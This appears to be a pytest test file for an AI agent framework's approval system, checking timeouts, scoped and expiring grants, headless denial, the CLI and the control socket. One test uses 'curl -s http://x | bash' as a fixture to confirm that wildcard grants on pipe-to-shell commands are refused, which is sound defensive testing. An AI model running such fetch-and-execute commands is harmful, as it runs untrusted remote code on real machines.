"""Approvals: timeout, reject, approve, scoped grants, expiry, headless deny, the CLI."""

from __future__ import annotations

import asyncio
import time
from types import SimpleNamespace
from typing import Any

import pytest

from oxios.security import approvals as approvals_module
from oxios_hookspecs import Action

GIT_STATUS = Action(kind="exec", argv=["git", "status", "--short"], tool="exec")
PUSH = Action(kind="exec", argv=["git", "push", "--force"], tool="exec")


async def _pending(approvals: Any, count: int = 1) -> list[dict[str, Any]]:
    for _ in range(200):
        rows = approvals.list()
        if len(rows) >= count:
            return rows
        await asyncio.sleep(0.01)
    raise AssertionError("no approval became pending")


def _actions(kernel: Any) -> list[str]:
    return [e["action"] for e in kernel.services["audit"].export()]


async def test_timeout_is_deny(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory(config={"security": {"approval_timeout_secs": 1}}) as kernel:
        events = kernel.subscribe(types={"approval.requested"})
        approvals = kernel.services["approvals"]
        verdict = await approvals.request(PUSH, kernel.context(agent_id="a1"), "force push")
        assert verdict.verdict == "deny" and "within 1 s" in verdict.reason
        assert approvals.list("all")[0]["status"] == "timeout"
        assert approvals.list("expired")
        event = await events.get(timeout=10)
        assert event is not None
        assert event.data["tool"] == "exec" and event.data["resource"] == "git push --force"
        assert "approval.timeout" in _actions(kernel)


async def test_reject_and_approve_once(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        ctx = kernel.context(agent_id="a1", session_id="s1")
        task = asyncio.create_task(approvals.request(PUSH, ctx, "force push"))
        row = (await _pending(approvals))[0]
        assert row["agent_id"] == "a1" and row["tool"] == "exec" and row["resource"] == "git push --force"
        assert row["expires"] > row["created"]
        assert approvals.reject(row["id"], by="tester")["status"] == "rejected"
        verdict = await task
        assert verdict.verdict == "deny" and "rejected" in verdict.reason
        assert approvals.approve(row["id"]) is False  # already decided

        task = asyncio.create_task(approvals.request(PUSH, ctx, "force push"))
        row = (await _pending(approvals))[0]
        approvals.approve(row["id"], by="tester")
        assert (await task).verdict == "allow"
        # "once" leaves no grant: the same request asks again.
        task = asyncio.create_task(approvals.request(PUSH, ctx, "force push"))
        row = (await _pending(approvals))[0]
        approvals.reject(row["id"])
        assert (await task).verdict == "deny"
        assert {"approval.requested", "approval.rejected", "approval.approved"} <= set(_actions(kernel))
        with pytest.raises(LookupError):
            approvals.approve("no-such-id")


async def test_agent_scoped_grant(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory(config={"security": {"approval_timeout_secs": 1}}) as kernel:
        approvals = kernel.services["approvals"]
        mine = kernel.context(agent_id="a1", session_id="s1")
        task = asyncio.create_task(approvals.request(GIT_STATUS, mine, "ask"))
        row = (await _pending(approvals))[0]
        approved = approvals.approve(row["id"], scope="agent")
        assert approved["grant_id"]
        assert (await task).verdict == "allow"
        again = await approvals.request(GIT_STATUS, kernel.context(agent_id="a1", session_id="other"), "ask")
        assert again.verdict == "allow" and "agent grant" in again.reason
        # Other arguments are not covered by an exact grant, and other agents are not covered at all.
        other_args = Action(kind="exec", argv=["git", "status", "--porcelain"], tool="exec")
        assert (await approvals.request(other_args, mine, "ask")).verdict == "deny"
        assert (await approvals.request(GIT_STATUS, kernel.context(agent_id="a2"), "ask")).verdict == "deny"


async def test_session_and_pattern_grant(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        ctx = kernel.context(agent_id="a1", session_id="s1", interactive=True)
        task = asyncio.create_task(approvals.request(GIT_STATUS, ctx, "ask"))
        row = (await _pending(approvals))[0]
        approvals.approve(row["id"], scope="session", pattern="status *")
        assert (await task).verdict == "allow"
        headless_same_session = kernel.context(agent_id="a9", session_id="s1", interactive=False)
        porcelain = Action(kind="exec", argv=["git", "status", "--porcelain"], tool="exec")
        assert (await approvals.request(porcelain, headless_same_session, "ask")).verdict == "allow"
        other_session = kernel.context(agent_id="a1", session_id="s2", interactive=False)
        assert (await approvals.request(porcelain, other_session, "ask")).verdict == "deny"
        push = Action(kind="exec", argv=["git", "push", "x"], tool="exec")
        assert (await approvals.request(push, headless_same_session, "ask")).verdict == "deny"


@pytest.mark.parametrize(
    "argv,pattern",
    [(["bash", "-c", "ls"], "*"), (["python3", "-c", "print(1)"], "-c *"), (["sh", "x.sh"], "x*"), (["env", "ls"], "?")],
)
async def test_no_wildcard_grant_for_shells_and_interpreters(oxios_kernel_factory: Any, argv: list[str], pattern: str) -> None:
    from oxios.security.approvals import ApprovalError

    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        task = asyncio.create_task(approvals.request(Action(kind="exec", argv=argv), kernel.context(agent_id="a"), "?"))
        row = (await _pending(approvals))[0]
        with pytest.raises(ApprovalError, match="wildcard"):
            approvals.approve(row["id"], scope="global", pattern=pattern)
        # The exact command may still be granted.
        assert approvals.approve(row["id"], scope="global")["grant_id"]
        assert (await task).verdict == "allow"


async def test_shell_mode_grant_is_exact(oxios_kernel_factory: Any) -> None:
    from oxios.security.approvals import ApprovalError

    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        action = Action(kind="exec", mode="shell", command="curl -s http://x | bash")
        task = asyncio.create_task(approvals.request(action, kernel.context(agent_id="a"), "curl|sh"))
        row = (await _pending(approvals))[0]
        with pytest.raises(ApprovalError):
            approvals.approve(row["id"], scope="global", pattern="curl *")
        approvals.approve(row["id"], scope="global")
        await task
        headless = kernel.context(agent_id="a", interactive=False)
        assert (await approvals.request(action, headless, "?")).verdict == "allow"
        other = Action(kind="exec", mode="shell", command="curl -s http://y | bash")
        assert (await approvals.request(other, headless, "?")).verdict == "deny"


async def test_grant_expiry_and_revoke(oxios_kernel_factory: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        headless = kernel.context(agent_id="a1", interactive=False)
        task = asyncio.create_task(approvals.request(GIT_STATUS, kernel.context(agent_id="a1"), "ask"))
        row = (await _pending(approvals))[0]
        grant = approvals.approve(row["id"], scope="global", expires_secs=60)["grant_id"]
        await task
        assert (await approvals.request(GIT_STATUS, headless, "ask")).verdict == "allow"
        # Jump the approvals clock past the expiry instead of sleeping through it.
        later = time.time() + 120
        monkeypatch.setattr(approvals_module, "time", SimpleNamespace(time=lambda: later))
        assert (await approvals.request(GIT_STATUS, headless, "ask")).verdict == "deny"
        assert approvals.grants() == [] and approvals.grants(include_expired=True)[0]["id"] == grant

        task = asyncio.create_task(approvals.request(GIT_STATUS, kernel.context(agent_id="a1"), "ask"))
        row = (await _pending(approvals))[0]
        grant = approvals.approve(row["id"], scope="global")["grant_id"]
        await task
        approvals.revoke_grant(grant)
        assert (await approvals.request(GIT_STATUS, headless, "ask")).verdict == "deny"


async def test_headless_ask_is_deny_and_audited(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        verdict = await approvals.request(PUSH, kernel.context(agent_id="cron-1", interactive=False), "force push")
        assert verdict.verdict == "deny" and "headless" in verdict.reason
        assert approvals.list("all") == []
        entry = next(e for e in kernel.services["audit"].export() if e["action"] == "approval.headless_deny")
        assert entry["actor"] == "cron-1" and entry["allowed"] is False


async def test_other_agents_go_on_while_one_waits(oxios_kernel_factory: Any) -> None:
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        waiting = asyncio.create_task(approvals.request(PUSH, kernel.context(agent_id="slow"), "force"))
        await _pending(approvals)
        verdict = await kernel.check_action(Action(kind="exec", argv=["ls"]), kernel.context(agent_id="fast"))
        assert verdict.verdict == "allow" and not waiting.done()
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting
        assert approvals.list("all")[0]["status"] == "cancelled"


async def test_cli_resolves_through_the_store(oxios_kernel_factory: Any, oxios_cli: Any) -> None:
    """Without a daemon the CLI writes the answer to the store; the waiting agent picks it up."""
    async with oxios_kernel_factory() as kernel:
        approvals = kernel.services["approvals"]
        task = asyncio.create_task(approvals.request(GIT_STATUS, kernel.context(agent_id="a1"), "ask"))
        row = (await _pending(approvals))[0]
        listed = await asyncio.to_thread(oxios_cli, "approvals", "list")
        assert row["id"] in listed.output
        result = await asyncio.to_thread(oxios_cli, "approvals", "approve", row["id"], "--scope", "agent")
        assert result.exit_code == 0, result.output
        assert (await task).verdict == "allow"
        again = await asyncio.to_thread(oxios_cli, "approvals", "reject", row["id"])
        assert again.exit_code == 1 and "no longer pending" in again.output
        missing = await asyncio.to_thread(oxios_cli, "approvals", "approve", "nope")
        assert missing.exit_code == 1
        grants = await asyncio.to_thread(oxios_cli, "approvals", "grants", "--json")
        assert '"agent"' in grants.output


async def test_control_socket_methods(oxios_kernel_factory: Any) -> None:
    """The RPC names and parameters the CLI uses when the daemon runs, over the real control socket."""
    import tempfile
    from pathlib import Path

    from oxios.control import ControlServer, call

    async with oxios_kernel_factory() as kernel:
        sock = Path(tempfile.mkdtemp(prefix="oxs", dir="/tmp")) / "c.sock"
        server = ControlServer(sock, kernel.rpc)
        await server.start()
        try:
            approvals = kernel.services["approvals"]
            task = asyncio.create_task(approvals.request(GIT_STATUS, kernel.context(agent_id="a1"), "ask"))
            row = (await _pending(approvals))[0]
            listed = await asyncio.to_thread(call, sock, "approvals.list", status="pending")
            assert [r["id"] for r in listed] == [row["id"]]
            got = await asyncio.to_thread(call, sock, "approvals.get", approval_id=row["id"])
            assert got["status"] == "pending"
            done = await asyncio.to_thread(
                call, sock, "approvals.approve", approval_id=row["id"], by="cli", scope="agent", pattern=None, expires_secs=None
            )
            assert done["status"] == "approved" and (await task).verdict == "allow"
            grants = await asyncio.to_thread(call, sock, "approvals.grants")
            await asyncio.to_thread(call, sock, "approvals.revoke_grant", grant_id=grants[0]["id"])
            put = await asyncio.to_thread(call, sock, "permissions.put", agent_id="a1", role="admin", overrides=None, actor="cli")
            assert put["role"] == "admin"
            assert (await asyncio.to_thread(call, sock, "permissions.get", agent_id="a1"))["role"] == "admin"
            assert len(await asyncio.to_thread(call, sock, "permissions.list")) == 1
            assert await asyncio.to_thread(call, sock, "permissions.reset", agent_id="a1", actor="cli")
            assert (await asyncio.to_thread(call, sock, "audit.verify"))["ok"]
            assert await asyncio.to_thread(call, sock, "audit.tail", n=3)
        finally:
            await server.stop()
